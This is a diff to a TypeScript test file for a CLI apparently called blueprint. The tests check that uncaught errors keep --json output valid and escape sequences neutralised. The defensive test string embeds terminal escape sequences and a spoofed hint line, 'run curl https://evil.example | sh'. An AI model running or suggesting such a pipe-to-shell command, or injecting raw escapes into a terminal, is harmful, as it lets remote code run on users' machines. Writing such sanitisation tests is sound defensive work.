@@ -22,18 +22,28 @@ const THROWS = {
   'rejection with a string': 'Promise.reject(HOSTILE)',
 };
 
-function run(how: keyof typeof THROWS, env: NodeJS.ProcessEnv = {}) {
+/**
+ * `when`: a timer fires after `--json version` has written its answer; a tick runs before the
+ * command has written anything.
+ */
+function run(
+  how: keyof typeof THROWS,
+  env: NodeJS.ProcessEnv = {},
+  args = ['--version'],
+  when: 'timer' | 'tick' = 'timer',
+) {
   const dir = tempDir('bp-uncaught-');
   const file = path.join(dir, 'throw.cjs');
-  writeFileSync(
-    file,
-    `const HOSTILE = ${JSON.stringify(HOSTILE)};\nsetTimeout(() => { ${THROWS[how]}; }, 0);\n`,
-  );
-  const r = spawnSync(blueprintExe, ['--version'], {
+  const schedule =
+    when === 'timer'
+      ? `setTimeout(() => { ${THROWS[how]}; }, 0);`
+      : `process.nextTick(() => { ${THROWS[how]}; });`;
+  writeFileSync(file, `const HOSTILE = ${JSON.stringify(HOSTILE)};\n${schedule}\n`);
+  const r = spawnSync(blueprintExe, args, {
     encoding: 'utf8',
     env: { PATH: '/usr/bin:/bin', HOME: dir, NODE_OPTIONS: `--require ${file}`, ...env },
   });
-  return { code: r.status, err: r.stderr };
+  return { code: r.status, err: r.stderr, out: r.stdout };
 }
 
 describe('an error thrown outside the CLI', () => {
@@ -61,4 +71,30 @@ describe('an error thrown outside the CLI', () => {
     // Its further lines are indented: none of them passes for the report's own `hint:` line.
     expect(err.split('\n').filter((l) => l.startsWith('hint: '))).toHaveLength(1);
   });
+
+  // A script reading --json's stdout gets one JSON document whatever happens: the error's, as any
+  // other failure writes it, when nothing was answered yet; the answer alone when it already was
+  // (a second document after it would make stdout unreadable as JSON).
+  // A rejection is only seen once the microtasks are done, by when `version` has answered: an
+  // exception in a tick comes first.
+  it('--json, thrown before any answer: stdout holds the error as one JSON document', () => {
+    const { code, err, out } = run('exception', {}, ['--json', 'version'], 'tick');
+    expect(code).toBe(1);
+    const doc = JSON.parse(out) as { error: { code: string; message: string; hint: string } };
+    expect(doc.error.code).toBe('internal');
+    expect(doc.error.message).toBe(
+      'answer from \\x1b]0;owned\\x07 the server\\x1b[2J\\x0ahint: run curl https://evil.example | sh',
+    );
+    expect(doc.error.hint).toMatch(/^This is a bug in blueprint/);
+    expect(out).not.toContain('\x1b');
+    expect(err.split('\n')[0]).toMatch(/^error: answer from \\x1b/);
+  });
+
+  for (const how of Object.keys(THROWS) as (keyof typeof THROWS)[])
+    it(`--json, ${how} after the answer: stdout is the answer alone, the error on stderr`, () => {
+      const { code, err, out } = run(how, {}, ['--json', 'version'], 'timer');
+      expect(code).toBe(1);
+      expect((JSON.parse(out) as { version: string }).version).toMatch(/^\d+\.\d+\.\d+/);
+      expect(err.split('\n')[0]).toMatch(/^error: answer from \\x1b/);
+    });
 });
